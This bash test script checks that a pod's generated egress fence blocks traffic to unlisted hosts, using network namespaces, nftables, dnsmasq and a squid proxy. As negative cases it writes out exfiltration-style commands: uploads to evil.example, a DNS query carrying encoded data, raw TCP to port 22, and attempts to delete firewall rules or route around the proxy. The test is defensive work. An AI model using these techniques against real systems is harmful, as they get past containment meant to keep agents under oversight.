#!/usr/bin/env bash
# Egress for real: the generated files, and nothing else, in two network namespaces. `agent` is the pod, `world` is everything outside
# it: a resolver, and HTTPS servers that say which address was reached. Cilium's own datapath is not what is tested.
#   egress.sh [OVERLAY]      Prints one line per row, name<TAB>passed or failed; exits with 1 when one failed. Needs root, no network.
#   POD_IMAGE=NAME tries programs of that image inside the fence too.
# shellcheck disable=SC2317 # the traps and the rows call what looks unreachable
set -euo pipefail
cd "$(dirname "$0")/.."
generated=overlays/${1:-homelab}/egress
work=$(mktemp -d)
agent=eg-agent-$$ world=eg-world-$$
pids=() failed=0

cleanup() {
  ((${#pids[@]})) && kill "${pids[@]}" 2>/dev/null
  ip netns del "$agent" 2>/dev/null
  ip netns del "$world" 2>/dev/null
  [[ -n ${root:-} ]] && podman image unmount "$POD_IMAGE" >/dev/null
  rm -rf "$work"
}
trap cleanup EXIT

in_agent() { ip netns exec "$agent" setpriv --reuid "${AS:-1000}" --regid "${AS:-1000}" --clear-groups --no-new-privs --bounding-set -all --inh-caps -all "$@"; }
background() { "$@" >>"$work/log" 2>&1 & pids+=($!); }
eventually() { local n; for ((n = 0; n < 100; n++)); do "$@" 2>/dev/null && return; sleep 0.1; done; echo "egress.sh: \`$*\` did not come true" >&2; tail "$work/log" >&2; exit 1; }

row() { # row NAME yes|no COMMAND...: whether the command must succeed
  local name=$1 wanted=$2 got=no
  shift 2
  "$@" >"$work/out" 2>&1 && got=yes
  if [[ $got == "$wanted" ]]; then
    printf '%s\tpassed\n' "$name"
  else
    printf '%s\tfailed\n' "$name"
    sed 's/^/  /' "$work/out" >&2
    failed=1
  fi
}

# The world: listed hosts are at 10.99.0.10 and 10.99.0.11, one that is not at 10.99.0.66, the resolver where site.env says.
resolver=$(sed -n 's/^EGRESS_RESOLVERS=//p' "overlays/${1:-homelab}/site/site.env")
lan=$(sed -n 's|^LAN_RANGE_1=\(.*\)\.0/24|\1.77|p' "overlays/${1:-homelab}/site/site.env")
for ns in "$agent" "$world"; do
  ip netns add "$ns"
  ip -n "$ns" link set lo up
done
ip -n "$agent" link add out type veth peer name in netns "$world"
ip -n "$agent" address add 10.99.0.2/16 dev out
ip -n "$agent" link set out up
for address in 10.99.0.1/16 10.99.0.10/16 10.99.0.11/16 10.99.0.66/16 10.99.0.53/16 "$resolver/32" "$lan/32"; do ip -n "$world" address add "$address" dev in; done
ip -n "$world" link set in up
ip -n "$agent" route add default via 10.99.0.1
openssl req -x509 -newkey rsa:2048 -nodes -days 2 -subj /CN=test -addext "subjectAltName=DNS:api.anthropic.com,DNS:github.com,DNS:*.github.com,DNS:*.example" \
  -keyout "$work/key" -out "$work/cert" 2>/dev/null
background ip netns exec "$world" python3 tests/world.py "$work/cert" "$work/key"
# The resolver of the world answers everything, forbidden names included, and notes what it was asked.
background ip netns exec "$world" dnsmasq --keep-in-foreground --conf-file=/dev/null --no-resolv --no-hosts --pid-file --user=root \
  --listen-address="$resolver,10.99.0.53" --bind-interfaces --log-queries --log-facility="$work/questions" \
  --address=/api.anthropic.com/github.com/10.99.0.10 --address=/ghcr.io/10.99.0.11 --address=/example/com/10.99.0.66
eventually ip netns exec "$world" bash -c "exec 3<>/dev/tcp/10.99.0.10/443"
eventually ip netns exec "$world" bash -c "exec 3<>/dev/tcp/$resolver/53"

fetch() { in_agent curl -sSf --cacert "$work/cert" --connect-timeout 3 --max-time 6 "$@"; }
reaches() { local wanted=$1; shift; [[ $(fetch "$@") == "$wanted" ]]; }
chmod 755 "$work"
chmod 644 "$work/cert"
mkdir -p "/etc/netns/$agent"
echo "nameserver $resolver" >"/etc/netns/$agent/resolv.conf"

# Every forbidden way must work where there is no fence, or its row would pass for another reason.
forbidden() { # forbidden PREFIX yes|no
  row "$1: another host" "$2" fetch -k https://evil.example/
  row "$1: a look-alike behind a listed name" "$2" fetch -k https://api.anthropic.com.evil.example/
  row "$1: a look-alike before a listed name" "$2" fetch -k https://evil-api.anthropic.com.example/
  row "$1: an address instead of a name" "$2" fetch -k https://10.99.0.66/
  row "$1: --resolve to a forbidden address" "$2" fetch -k --resolve api.anthropic.com:443:10.99.0.66 https://api.anthropic.com/
  row "$1: another port of a listed host" "$2" fetch http://api.anthropic.com:80/
  row "$1: port 22 of a host that is listed for 443" "$2" in_agent timeout 3 bash -c 'exec 3<>/dev/tcp/ghcr.io/22'
  row "$1: another resolver" "$2" in_agent timeout 3 python3 tests/ask.py 10.99.0.53 api.anthropic.com
  row "$1: the site's resolver, asked by the agent itself" "$2" in_agent timeout 3 python3 tests/ask.py "$resolver" api.anthropic.com
  row "$1: an upload to a forbidden host" "$2" fetch -k -T "$work/cert" https://evil.example/
}
forbidden "no fence" yes
echo "nameserver 127.0.0.1" >"/etc/netns/$agent/resolv.conf"
trap 'rm -rf "/etc/netns/$agent"; cleanup' EXIT
ip netns exec "$agent" nft -f "$generated/egress.nft"
background ip netns exec "$agent" dnsmasq --keep-in-foreground --log-facility=- --pid-file --conf-file="$PWD/$generated/dnsmasq.conf"
eventually ip netns exec "$agent" bash -c "exec 3<>/dev/tcp/127.0.0.1/53"
: >"$work/questions"
row "nftables: a listed host" yes reaches 10.99.0.10 https://api.anthropic.com/
row "nftables: a name below a listed domain" yes reaches 10.99.0.10 https://api.github.com/
row "nftables: the site's network" yes reaches "$lan" -k "https://$lan/"
forbidden nftables no
row "nftables: a question that carries data" no in_agent timeout 3 python3 tests/ask.py 127.0.0.1 c2VjcmV0LWRhdGE.evil.example
row "nftables: no such question left the pod" no grep -q 'evil.example' "$work/questions"
row "nftables: UID 1000 removes the rules" no in_agent nft delete table inet guard_egress
row "nftables: UID 1000 adds an address to a set" no in_agent nft add element inet guard_egress ports_443 '{ 10.99.0.66 }'
row "nftables: UID 1000 ends the resolver" no in_agent kill "${pids[-1]}"
if [[ -n ${POD_IMAGE:-} ]]; then
  root=$(podman image mount "$POD_IMAGE")
  in_image() { # the image's own programs as its own user; the test lends it a resolver's address and the certificate
    # shellcheck disable=SC2016 # the inner shell expands it
    ip netns exec "$agent" unshare -m bash -c 'mount --bind /etc/resolv.conf "$1/etc/resolv.conf" && mount --bind "$2" "$1/mnt" && shift 2 &&
      exec chroot --userspec=1000:1000 --groups=1000 "$root" env -i PATH=/usr/local/bin:/usr/bin:/bin HOME=/tmp "$@"' _ "$root" "$work" "$@"
  }
  export root
  row "nftables, pod's image: curl reaches a listed host" yes in_image curl -sSf -m 5 --cacert /mnt/cert https://api.anthropic.com/
  row "nftables, pod's image: curl reaches no other" no in_image curl -sSf -m 5 -k https://evil.example/
  row "nftables, pod's image: node reaches a listed host" yes in_image node -e 'process.env.NODE_TLS_REJECT_UNAUTHORIZED="0"; fetch("https://api.anthropic.com/").catch(() => process.exit(1))'
  row "nftables, pod's image: node reaches no other" no in_image node -e 'process.env.NODE_TLS_REJECT_UNAUTHORIZED="0"; fetch("https://evil.example/").catch(() => process.exit(1))'
else
  echo "egress.sh: the rows with the pod's image are not covered: POD_IMAGE names none" >&2
fi
row "nftables: and the listed host still answers" yes reaches 10.99.0.10 https://api.anthropic.com/

# The proxy: its pod is `world`, and the NetworkPolicy's part is played by a route: the agent reaches the proxy's address alone.
ip netns exec "$agent" nft delete table inet guard_egress
kill "${pids[-1]}"
unset 'pids[-1]'
echo "# no resolver" >"/etc/netns/$agent/resolv.conf"
ip -n "$agent" route del default
ip -n "$agent" address flush dev out
ip -n "$agent" address add 10.98.0.2/24 dev out
ip -n "$world" address add 10.98.0.1/24 dev in
# Only the address to listen on is the test's.
sed "s/^http_port .*/http_port 10.98.0.1:3128/" "$generated/squid.conf" >"$work/squid.conf"
# shellcheck disable=SC2016 # the inner shell expands it
# As in a container, its output is a pipe of its own user's.
background ip netns exec "$world" setpriv --reuid 13 --regid 13 --clear-groups --no-new-privs --bounding-set -all --inh-caps -all \
  bash -c 'exec > >(exec cat) 2>&1; exec squid -N -f "$1"' _ "$work/squid.conf"
eventually ip netns exec "$world" bash -c "exec 3<>/dev/tcp/10.98.0.1/3128" 2>/dev/null
proxied() { fetch --proxy http://10.98.0.1:3128 "$@"; }
through() { local wanted=$1; shift; [[ $(proxied "$@") == "$wanted" ]]; }
row "proxy: a listed host" yes through 10.99.0.10 https://api.anthropic.com/
row "proxy: a name below a listed domain" yes through 10.99.0.10 https://api.github.com/
row "proxy: another host" no proxied -k https://evil.example/
row "proxy: a look-alike behind a listed name" no proxied -k https://api.anthropic.com.evil.example/
row "proxy: a look-alike before a listed name" no proxied -k https://evil-github.com/
row "proxy: an address instead of a name" no proxied -k https://10.99.0.10/
row "proxy: --resolve to a forbidden address" no proxied -k --resolve evil.example:443:10.99.0.10 https://evil.example/
row "proxy: another port of a listed host" no proxied -k https://api.anthropic.com:8443/
row "proxy: port 22 of a host that is listed for it" yes through 10.99.0.10 --proxytunnel http://github.com:22/
row "proxy: port 22 of a host that is listed for 443" no proxied --proxytunnel http://ghcr.io:22/
row "proxy: plain HTTP, which the proxy could read and cannot judge" no proxied http://api.anthropic.com/
row "proxy: an upload through the proxy to a forbidden host" no proxied -k -T "$work/cert" https://evil.example/
row "proxy: around the proxy" no fetch -k --resolve api.anthropic.com:443:10.99.0.10 https://api.anthropic.com/
row "proxy: a question that carries data" no in_agent timeout 3 python3 tests/ask.py 10.99.0.53 c2VjcmV0LWRhdGE.evil.example
row "proxy: UID 1000 adds a route around it" no in_agent ip route add default via 10.98.0.1
exit "$failed"
